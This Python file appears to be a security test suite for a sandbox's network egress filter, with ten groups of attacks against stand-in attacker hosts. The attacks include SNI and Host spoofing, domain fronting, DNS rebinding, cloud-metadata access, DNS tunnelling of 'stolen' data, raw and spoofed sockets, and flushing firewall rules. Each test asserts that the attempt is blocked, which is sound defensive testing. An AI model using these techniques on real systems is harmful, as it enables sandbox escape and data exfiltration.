"""A1 to A10: names and addresses."""
import json

from attacks import INSPECTED, LIMITED, OPEN, attack, limited
from world import API, API6, EVIL, EVIL6, HOST, HOST6, HOST_PUBLIC, PAY, WITNESS

GET = b"GET /hello HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"

# A1: an address, without asking for a name --------------------------------------------------------
@attack("A1", each={"tls": 443, "http": 80, "other": 9999})
def direct_address(field, port):
    field.policy(LIMITED)
    field.run("""
        got["tls"] = https(EVIL, "evil.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", PORT)
        got["http"] = tcp(EVIL, PORT, b"GET / HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\n\\r\\n")
        got["raw"] = tcp(EVIL, PORT, b"hello")
    """, PORT=port)
    field.silent()


@attack("A1")
def direct_address_v6(field):
    field.policy(LIMITED)
    field.run("""
        got["v6"] = tcp(EVIL6, 443, hello(server_name(b"evil.pirate.net")))
        got["mapped"] = tcp("::ffff:" + EVIL, 80, b"GET / HTTP/1.0\\r\\n\\r\\n")
    """, EVIL6=EVIL6)
    field.silent()


@attack("A1")
def address_outside_the_allowed_range(field):
    field.policy({"mode": "block-all", "egress": {"trafficRules": [
        {"action": "allow", "cidrs": ["5.5.1.0/24"]}]}})
    field.run("""
        got["evil"] = tcp(EVIL, 80, b"GET / HTTP/1.0\\r\\n\\r\\n")
        got["fine"] = tcp(API, 80, b"GET /hello HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
    """)
    field.silent(API)


@attack("A1")
def allowed_name_without_its_protocol_at_another_address(field):
    """Bytes that are no protocol carry no name: the address alone must not open."""
    field.policy(LIMITED)
    field.run('got["raw"] = tcp(EVIL, 443, b"\\x00\\x01\\x02 api.harbour.com")')
    field.unreached(EVIL)


# A2: an allowed name at the attacker's address ----------------------------------------------------
@attack("A2", each={"limited": LIMITED, "inspected": INSPECTED})
def allowed_sni_at_evil_address(field, policy):
    field.policy(policy)
    field.run("""
        got["https"] = https(EVIL, "api.harbour.com",
                             b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\n\\r\\n")
    """)
    field.unreached(EVIL)


@attack("A2")
def allowed_host_header_at_evil_address(field):
    field.policy(LIMITED)
    field.run("""
        got["http"] = tcp(EVIL, 80, b"GET / HTTP/1.1\\r\\nHost: api.harbour.com\\r\\n\\r\\n")
    """)
    field.unreached(EVIL)


@attack("A2")
def own_hosts_file(field):
    """The sandbox's own idea of a name is of no interest."""
    field.policy(LIMITED)
    field.run("""
        open("/etc/hosts", "a").write(f"{EVIL} api.harbour.com\\n")
        got["https"] = to("api.harbour.com", b"GET / HTTP/1.0\\r\\nHost: api.harbour.com\\r\\n\\r\\n")
        lines = [l for l in open("/etc/hosts") if EVIL not in l]
        open("/etc/hosts", "w").writelines(lines)
    """)
    field.unreached(EVIL)


# A3: domain fronting ------------------------------------------------------------------------------
@attack("A3")
def other_host_behind_allowed_sni(field):
    field.policy(INSPECTED)
    got = field.run("""
        got["front"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\n"
                          b"Connection: close\\r\\n\\r\\n")
    """)
    assert "hello from the witness" not in got["front"]["data"]
    field.no_request(host="evil")


@attack("A3")
def other_authority_in_http2(field):
    field.policy(INSPECTED)
    field.run("""
        h = H2(API, "api.harbour.com")
        h.get(1, "evil.pirate.net")
        got["answers"] = h.collect()
    """)
    field.no_request(host="evil")


# A4: which host? ----------------------------------------------------------------------------------
@attack("A4", each={
    "two-hosts": b"GET /hello HTTP/1.1\r\nHost: api.harbour.com\r\nHost: evil.pirate.net\r\n\r\n",
    "two-hosts-swapped":
        b"GET /hello HTTP/1.1\r\nHost: evil.pirate.net\r\nHost: api.harbour.com\r\n\r\n",
    "absolute-form":
        b"GET https://evil.pirate.net/x HTTP/1.1\r\nHost: api.harbour.com\r\n\r\n",
    "absolute-form-allowed-evil-host":
        b"GET https://api.harbour.com/x HTTP/1.1\r\nHost: evil.pirate.net\r\n\r\n",
    "userinfo": b"GET /x HTTP/1.1\r\nHost: api.harbour.com@evil.pirate.net\r\n\r\n",
    "other-port": b"GET /x HTTP/1.1\r\nHost: api.harbour.com:8443@evil.pirate.net\r\n\r\n",
    "comma": b"GET /x HTTP/1.1\r\nHost: api.harbour.com, evil.pirate.net\r\n\r\n",
    "no-host": b"GET /x HTTP/1.1\r\nX-Forwarded-Host: evil.pirate.net\r\n\r\n",
    "folded": b"GET /x HTTP/1.1\r\nHost: api.harbour.com\r\n evil.pirate.net\r\n\r\n",
})
def ambiguous_host(field, request):
    field.policy(INSPECTED)
    field.run('got["answer"] = to("api.harbour.com", REQUEST)', REQUEST=request)
    sight = field.seen()
    for request in sight.requests():
        hosts = [value for name, value in request["headers"] if name == "host"]
        assert hosts == ["api.harbour.com"], request
        assert request["target"].startswith("/"), request
    field.unreached(EVIL)


@attack("A4")
def host_and_authority_differ(field):
    field.policy(INSPECTED)
    field.run("""
        h = H2(API, "api.harbour.com")
        h.get(1, "api.harbour.com", more=[("host", "evil.pirate.net")])
        got["answers"] = h.collect()
    """)
    field.no_request(host="evil")


# A5: odd server names -----------------------------------------------------------------------------
@attack("A5", each={
    "none": [], "address": [b"6.6.6.6"], "trailing-dot": [b"evil.pirate.net."],
    "upper-case": [b"EVIL.PIRATE.NET"], "nul": [b"api.harbour.com\0.pirate.net"],
    "nul-before": [b"evil.pirate.net\0api.harbour.com"], "empty": [b""],
    "homograph": ["api.hаrbour.com".encode()], "punycode": [b"xn--api-5cd.harbour.com.pirate.net"],
    "overlong": [b"a" * 300 + b".api.harbour.com"], "space": [b"api.harbour.com "],
    "underscore": [b"_api.harbour.com"], "two-names": [b"api.harbour.com", b"evil.pirate.net"],
    "two-names-swapped": [b"evil.pirate.net", b"api.harbour.com"],
    "slash": [b"api.harbour.com/evil.pirate.net"]})
def odd_server_name(field, names):
    """None of these may open the attacker's address; those that equal the allowed name go there."""
    field.policy(LIMITED)
    field.run("""
        names = server_name(*NAMES) if NAMES else b""
        got["evil"] = tcp(EVIL, 443, hello(names))
    """, NAMES=names)
    field.unreached(EVIL)


@attack("A5")
def server_name_extension_twice(field):
    field.policy(LIMITED)
    field.run("""
        got["a"] = tcp(EVIL, 443, hello(server_name(b"api.harbour.com"),
                                        server_name(b"evil.pirate.net")))
        got["b"] = tcp(EVIL, 443, hello(server_name(b"evil.pirate.net"),
                                        server_name(b"api.harbour.com")))
    """)
    field.unreached(EVIL)


# A6: patterns -------------------------------------------------------------------------------------
@attack("A6", each={
    "longer": (["api.harbour.com"], "api.harbour.com.pirate.net"),
    "no-dot": (["*.harbour.com"], "evilharbour.com"),
    "below-exact": (["harbour.com"], "evil.harbour.com"),
    "sibling": (["api.harbour.com"], "pay.harbour.com"),
    "parent": (["api.harbour.com"], "harbour.com")})
def name_that_only_looks_allowed(field, case):
    allowed, name = case
    field.policy(limited(*allowed))
    field.names(zone={name: [{"A": [EVIL]}]})
    field.run("""
        got["asked"] = ask(NAME)
        got["https"] = to(NAME, b"GET / HTTP/1.0\\r\\n\\r\\n")
        got["direct"] = tcp(EVIL, 443, hello(server_name(NAME.encode())))
        got["http"] = tcp(EVIL, 80, b"GET / HTTP/1.1\\r\\nHost: " + NAME.encode() + b"\\r\\n\\r\\n")
    """, NAME=name)
    field.unreached(EVIL)


# A7: names that lead inside -----------------------------------------------------------------------
INTERNAL = "10.1.2.3"


@attack("A7", each={"private": INTERNAL, "metadata": "169.254.169.254", "loopback": "127.0.0.1",
                    "host": HOST_PUBLIC})
def rebinding(field, inside):
    """First a public address, then one inside, with a lifetime of nothing."""
    field.policy(OPEN)
    field.names(zone={"rebind.pirate.net": [{"A": [EVIL], "ttl": 0}, {"A": [inside], "ttl": 0}]})
    field.run("""
        for _ in range(3):
            got["addresses"] = addresses("rebind.pirate.net")
            got["named"] = to("rebind.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 0.6)
            got["first"] = https(EVIL, "rebind.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 0.6)
            got["http"] = tcp(EVIL, 80, b"GET / HTTP/1.1\\r\\nHost: rebind.pirate.net\\r\\n\\r\\n", 1)
            time.sleep(0.3)
    """, INSIDE=inside)
    field.unreached(inside)
    assert not field.canary.hits()


@attack("A7")
def alias_of_an_internal_name(field):
    field.policy(OPEN)
    field.names(zone={"alias.pirate.net": [{"CNAME": ["vault.corp.internal"]}],
                      "vault.corp.internal": [{"A": [INTERNAL]}]})
    got = field.run("""
        got["addresses"] = addresses("alias.pirate.net")
        got["https"] = to("alias.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 1)
        got["sni"] = https(EVIL, "alias.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 1)
    """)
    assert INTERNAL not in got["addresses"]
    field.unreached(INTERNAL)


@attack("A7")
def one_private_among_several(field):
    field.policy(OPEN)
    field.names(zone={"many.pirate.net": [{"A": [INTERNAL, "192.168.7.7", EVIL]}]})
    got = field.run("""
        got["addresses"] = addresses("many.pirate.net")
        for _ in range(3):
            to("many.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 0.6)
            https(EVIL, "many.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 0.6)
    """)
    assert INTERNAL not in got["addresses"] and "192.168.7.7" not in got["addresses"]
    field.unreached(INTERNAL, "192.168.7.7")


HIDDEN = {"mapped": "::ffff:10.1.2.3", "compatible": "::10.1.2.3", "nat64": "64:ff9b::a01:203",
          "nat64-local": "64:ff9b:1::a01:203", "6to4": "2002:a01:203::1",
          "mapped-metadata": "::ffff:169.254.169.254", "nat64-metadata": "64:ff9b::a9fe:a9fe",
          "6to4-metadata": "2002:a9fe:a9fe::1", "unique-local": "fd12:3456::1",
          "link-local": "fe80::1", "site-local": "fec0::1", "documentation": "2001:db8::1",
          "teredo": "2001:0:a01:203::f5fe:fdfc"}


@attack("A7", each=HIDDEN)
def ipv4_hidden_in_ipv6(field, address):
    field.policy(OPEN)
    field.names(zone={"hidden.pirate.net": [{"AAAA": [address]}]})
    field.run("""
        got["direct"] = tcp(HIDDEN, 80, b"GET / HTTP/1.0\\r\\n\\r\\n", 1)
        got["named"] = to("hidden.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 1)
        got["sni"] = https(EVIL, "hidden.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 1)
    """, HIDDEN=address)
    # That the attacker's own public address is open changes nothing about the one that is hidden.
    sight = field.seen()
    assert not sight.strangers(EVIL), sight.strangers(EVIL)[:5]


@attack("A7", each={"decimal": "2852039166", "octal": "0251.0376.0251.0376", "hex": "0xa9fea9fe",
                    "short": "10.258", "mixed": "0xa9.254.0251.254", "padded": "012.0.0.1"})
def odd_spelling_of_an_address(field, spelling):
    field.policy(OPEN)
    done = field.sandbox.run(["curl", "-s", "-m", "3", f"http://{spelling}/latest"], user="root")
    field.output += done["stdout"]
    got = field.run("""
        got["sni"] = tcp(EVIL, 443, hello(server_name(SPELLING.encode())))
        got["host"] = tcp(EVIL, 80, b"GET / HTTP/1.1\\r\\nHost: " + SPELLING.encode() + b"\\r\\n\\r\\n")
        got["dns"] = ask(SPELLING)
    """, SPELLING=spelling)
    sight = field.seen()
    assert not sight.strangers(EVIL), sight.strangers(EVIL)[:5]
    assert "hello from" not in done["stdout"] and got


# A8: other ways to ask ----------------------------------------------------------------------------
@attack("A8", each={"udp": False, "tcp": True})
def name_server_of_ones_own(field, over_tcp):
    field.policy(LIMITED)
    field.run("""
        for server in ("8.8.8.8", "1.1.1.1", EVIL, "2001:4860:4860::8888"):
            got[server] = ask("stolen.evil.pirate.net", 16, server, OVER_TCP, 1)
    """, OVER_TCP=over_tcp)
    sight = field.seen()
    assert not sight.strangers() and not sight.questions, (sight.packets[:5], sight.questions)


@attack("A8")
def name_server_of_ones_own_when_open(field):
    """Even where everything is allowed, questions go to our upstream and nowhere else."""
    field.policy(OPEN)
    field.run('got["asked"] = ask("evil.pirate.net", 1, "8.8.8.8")')
    field.unreached("8.8.8.8")


@attack("A8")
def dns_over_tls(field):
    field.policy(LIMITED)
    field.run("""
        for server in ("1.1.1.1", "8.8.8.8", EVIL, API):
            got[server] = tcp(server, 853, hello(server_name(b"dns.google")), 1)
    """)
    field.silent(API)
    assert not any(port == 853 for _, _, port in field.seen().packets)


@attack("A8")
def dns_over_quic(field):
    field.policy(LIMITED)
    field.run("""
        for port in (853, 8853, 784, 443):
            got[port] = udp("1.1.1.1", port, b"\\xc0\\0\\0\\0\\x01" + os.urandom(1195), 1)
    """)
    field.silent()


@attack("A8")
def dns_over_https(field):
    """A known resolver's name is closed although a rule as wide as this would open it."""
    field.policy(limited("*.google", "*.cloudflare-dns.com", "*.quad9.net"))
    field.names(zone={name: [{"A": [EVIL]}] for name in
                      ("dns.google", "cloudflare-dns.com", "dns.quad9.net")})
    field.run("""
        for name in ("dns.google", "cloudflare-dns.com", "dns.quad9.net"):
            got[name] = to(name, b"GET /dns-query?dns=AAAB HTTP/1.0\\r\\n\\r\\n", 1)
            got[name + " direct"] = tcp(EVIL, 443, hello(server_name(name.encode())), 1)
    """)
    field.unreached(EVIL)


@attack("A8")
def tunnel_in_labels(field):
    field.policy(LIMITED)
    field.run("""
        for n in range(8):
            data = os.urandom(30).hex()[:60]
            got[n] = ask(f"{data}.{data}.{data}.t.pirate.net", 16, None, False, 1)
            ask(f"{data}.api.harbour.com", 1, None, False, 1)
            addresses(f"{data}.pirate.net")
    """)
    sight = field.seen()
    assert not sight.questions, sight.questions[:3]
    assert not sight.packets, sight.packets[:5]


@attack("A8")
def malformed_questions(field):
    """What is not a question is not passed on either, and the resolver survives it."""
    field.policy(OPEN)
    got = field.run(r"""
        server = name_server()
        for piece in (b"", b"\0" * 11, b"\x12\x34" + b"\xff" * 500, question("a" * 63 + ".com") * 3,
                      question("x.pirate.net")[:-3], b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"\xc0\x0c\0\1\0\1",
                      question("evil.pirate.net", 252), question("evil.pirate.net", 255),
                      question("evil.pirate.net", 10, b"tail-of-stolen-data")):
            udp(server, 53, piece, 0.3)
        got["after"] = addresses("api.harbour.com")
    """)
    assert "5.5.1.10" in got["after"]
    sight = field.seen()
    assert not sight.heard("stolen"), sight.questions


@attack("A8")
def multicast_names(field):
    field.policy(OPEN)
    field.run("""
        for address, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900),
                              ("255.255.255.255", 53), ("ff02::fb", 5353)):
            got[address] = udp(address, port, question("host.local"), 0.5)
    """)
    field.silent()


@attack("A8")
def encrypted_hello_and_quic_hints(field):
    """Keys for hidden names and offers of HTTP/3 do not reach the sandbox."""
    field.policy(OPEN)
    hints = ("0001" "00" "0001000603026833026832"  # alpn h3, h2
             "000500080006fe0d00020102")           # ech
    field.names(zone={"hint.pirate.net": [{"HTTPS": [hints], "A": [EVIL]}]})
    got = field.run('got["answer"] = ask("hint.pirate.net", 65)')
    data = got["answer"]["data"].encode("latin-1")
    assert b"\xfe\x0d" not in data and b"\x02h3" not in data, data


# A9: metadata services ----------------------------------------------------------------------------
METADATA = {"aws": "169.254.169.254", "ecs": "169.254.170.2", "eks": "169.254.170.23",
            "aws-v6": "fd00:ec2::254", "alibaba": "100.100.100.200", "azure": "168.63.129.16",
            "oracle": "192.0.0.192", "google-v6": "fd20:ce::254", "oracle-v6": "fd00:c1::a9fe:a9fe",
            "scaleway-v6": "fd00:42::42", "mapped": "::ffff:169.254.169.254"}


@attack("A9", each=METADATA)
def metadata_by_address(field, address):
    field.policy(OPEN)
    field.run("""
        request = b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: metadata\\r\\nMetadata-Flavor: Google\\r\\n\\r\\n"
        got["http"] = tcp(ADDRESS, 80, request, 1)
        got["tls"] = https(ADDRESS, "api.harbour.com", request, 443, 1)
        got["udp"] = udp(ADDRESS, 123, b"x", 0.3)
        got["ecs"] = tcp(ADDRESS, 51678, request, 1)
    """, ADDRESS=address)
    sight = field.seen()
    # The name in the TLS hello may lead where it truly lives.
    assert not sight.strangers(API, API6), sight.strangers(API, API6)[:5]


@attack("A9")
def metadata_allowed_by_a_rule(field):
    """No rule of a sandbox opens what is closed by class."""
    field.policy({"mode": "allow-all", "egress": {"trafficRules": [
        {"action": "allow", "cidrs": ["169.254.0.0/16", "10.0.0.0/8", "0.0.0.0/0"]}]}})
    field.run("""
        got["metadata"] = tcp("169.254.169.254", 80, b"GET / HTTP/1.0\\r\\n\\r\\n", 1)
        got["private"] = tcp("10.1.2.3", 80, b"GET / HTTP/1.0\\r\\n\\r\\n", 1)
    """)
    field.silent()


@attack("A9", each={"google": "metadata.google.internal", "aws": "instance-data.ec2.internal",
                    "attacker": "md.pirate.net"})
def metadata_by_name(field, name):
    field.policy(OPEN)
    field.names(zone={name: [{"A": ["169.254.169.254"], "AAAA": ["fd00:ec2::254"]}]})
    got = field.run("""
        got["addresses"] = addresses(NAME)
        got["http"] = tcp(EVIL, 80, b"GET / HTTP/1.1\\r\\nHost: " + NAME.encode() + b"\\r\\n\\r\\n", 1)
        got["tls"] = https(EVIL, NAME, b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 1)
    """, NAME=name)
    assert "169.254.169.254" not in got["addresses"]
    field.unreached("169.254.169.254", "fd00:ec2::254")


@attack("A9", each={"private-10": "10.9.8.7", "private-172": "172.20.1.1",
                    "private-192": "192.168.1.1", "shared": "100.64.0.1", "link": "169.254.1.1",
                    "this": "0.0.0.1", "benchmark": "198.18.0.1", "documentation": "203.0.113.5",
                    "future": "240.0.0.1", "broadcast": "255.255.255.255",
                    "unique-local": "fd99::1", "multicast": "239.1.1.1", "witness": WITNESS})
def closed_class(field, address):
    field.policy(OPEN)
    field.run("""
        for port in (22, 80, 443, 6443):
            got[port] = tcp(ADDRESS, port, b"GET / HTTP/1.0\\r\\n\\r\\n", 0.7)
        got["udp"] = udp(ADDRESS, 161, b"x", 0.3)
    """, ADDRESS=address)
    field.silent()


# A10: the host and the neighbours -----------------------------------------------------------------
@attack("A10", each={"cable": HOST, "public": HOST_PUBLIC, "v6": HOST6, "loopback": "127.0.0.1",
                     "loopback-v6": "::1", "any": "0.0.0.0", "mapped": "::ffff:127.0.0.1",
                     "loopback-range": "127.1.2.3"})
def host_of_the_sandbox(field, address):
    field.policy(OPEN)
    got = field.run("""
        for port in (CANARY, API_PORT, 1015):
            got[port] = tcp(ADDRESS, port, b"GET /api/v1/sandboxes HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 1)
        got["named"] = https(EVIL, "host.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 1)
    """, ADDRESS=address, CANARY=field.canary.port, API_PORT=field.server.port)
    assert not field.canary.hits(), "a listener of the host was reached"
    assert "success" not in json.dumps(got)


@attack("A10")
def neighbour_by_any_address(field):
    field.policy(OPEN)
    got = field.run("""
        for address in ("10.200.0.2", "10.200.0.1", "10.200.0.3", "fd00:a70:11::2", "fd00:a70:11::3"):
            got[address] = tcp(address, PORT, b"hello", 0.7)
    """, PORT=field.neighbour.port)
    assert not field.neighbour.hits(), "another sandbox was reached"
    assert "neighbour" not in json.dumps(got)
    field.silent()


@attack("A10")
def neighbour_by_name_outside_a_group(field):
    field.policy(OPEN)
    field.run("""
        for name in (NEIGHBOUR + ".atoll.internal", "neighbour.atoll.internal"):
            got[name] = addresses(name)
            got["http"] = tcp(EVIL, PORT, b"GET / HTTP/1.1\\r\\nHost: " + name.encode() + b"\\r\\n\\r\\n", 1)
    """, NEIGHBOUR=field.neighbour.sandbox.id, PORT=field.neighbour.port)
    assert not field.neighbour.hits()
    assert not [name for name in field.seen().questions if "atoll.internal" in name]


@attack("A10")
def sockets_of_other_families(field):
    """vsock, netlink to others, raw and packet sockets, tunnels: none carries anything out."""
    field.policy(OPEN)
    field.run(r"""
        def attempt(name, function):
            try:
                got[name] = str(function())
            except (OSError, AttributeError) as error:
                got[name] = f"error {error}"

        def vsock():
            sock = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            sock.settimeout(1)
            return sock.connect((2, 1015))

        def ping():
            sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            sock.settimeout(0.5)
            sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", (EVIL, 0))
            return sock.recv(100)

        def ping_unprivileged():
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            sock.settimeout(0.5)
            sock.sendto(b"\x08\0\0\0\0\0\0\0", (EVIL, 0))
            return sock.recv(100)

        def spoofed():
            sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            packet = bytes.fromhex("4500001c00010000401100000505010a06060606") + b"\0\x35\x27\x0f\0\x08\0\0"
            return sock.sendto(packet, (EVIL, 0))

        def packets():
            sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
            sock.bind(("lo", 0))
            frame = b"\0" * 12 + b"\x08\0" + bytes.fromhex("4500001c00010000401100000505010a06060606")
            return sock.send(frame + b"\0\x35\x27\x0f\0\x08\0\0")

        def sctp():
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
            sock.settimeout(1)
            return sock.connect((EVIL, 9999))

        def lite():
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
            return sock.sendto(b"x", (EVIL, 9999))

        for each in (vsock, ping, ping_unprivileged, spoofed, packets, sctp, lite):
            attempt(each.__name__, each)
    """)
    # UDP from nowhere is still UDP: it may go where UDP may go, as itself and never as another.
    strangers = [each for each in field.seen().strangers() if each[0] != 17 or each[1] != EVIL]
    assert not strangers, strangers[:5]


@attack("A10")
def rewired_namespace(field):
    """Root inside may tear down its own plumbing: then nothing goes out, rather than everything."""
    field.policy(LIMITED)
    field.run(r"""
        import subprocess
        for command in ("ip addr add 5.5.1.77/24 dev lo", "ip route add 6.6.6.0/24 dev lo",
                        "ip route replace default dev lo", "ip link add v0 type veth peer name v1",
                        "nft flush ruleset", "iptables -F"):
            try:
                subprocess.run(command.split(), capture_output=True, timeout=5)
            except OSError:
                pass
        got["evil"] = tcp(EVIL, 80, b"GET / HTTP/1.0\r\n\r\n", 1)
        got["sni"] = tcp(EVIL, 443, hello(server_name(b"evil.pirate.net")), 1)
    """)
    field.unreached(EVIL)


@attack("A10")
def port_of_the_interceptor(field):
    """The listener itself is no way around what it asks."""
    field.policy(LIMITED)
    field.run(r"""
        for address in ("127.0.0.1", "::1", "10.200.0.2", "fd00:a70:11::2"):
            for port in (1015, 53):
                got[f"{address} {port}"] = tcp(address, port, b"GET / HTTP/1.1\r\nHost: evil.pirate.net\r\n\r\n", 0.7)
            udp(address, 1015, b"hello", 0.2)
    """)
    field.silent()


@attack("A2")
def pay_address_with_the_name_of_api(field):
    """Two allowed names do not lend each other their addresses."""
    field.policy(limited("api.harbour.com", "pay.harbour.com"))
    field.run("""
        got["https"] = https(PAY, "api.harbour.com",
                             b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\n\\r\\n")
    """)
    sight = field.seen()
    assert not [each for each in sight.connections
                if each["address"] == PAY and each["sni"] == "api.harbour.com"]
